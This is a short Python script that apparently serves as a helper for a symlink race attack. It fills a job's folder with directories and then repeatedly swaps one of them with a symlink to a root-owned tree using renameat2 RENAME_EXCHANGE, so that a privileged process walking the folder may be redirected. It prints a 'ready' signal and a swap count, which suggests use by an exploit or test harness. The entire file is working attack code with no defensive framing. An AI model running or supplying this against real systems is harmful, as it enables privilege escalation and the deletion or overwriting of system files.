"""Fills the folder of an own job and swaps one of the folders in it for a link to a tree of root, until one of the two is gone.

swapper.py FOLDER TREE: says "ready" once it begins, and at the end how often it swapped.
"""
import ctypes
import os
import sys

FOLDER, TREE = sys.argv[1:]
AT_FDCWD, RENAME_EXCHANGE = -100, 2
os.chdir(FOLDER)
for number in range(300):
    os.makedirs(f"{number:03d}/inner")
    open(f"{number:03d}/inner/file", "w").close()
os.mkdir("last")
open("last/file", "w").close()
os.symlink(TREE, "link")
libc = ctypes.CDLL(None)
print("ready", flush=True)
swapped = 0
while libc.renameat2(AT_FDCWD, b"last", AT_FDCWD, b"link", RENAME_EXCHANGE) == 0:
    swapped += 1
print(f"swapped {swapped}", flush=True)
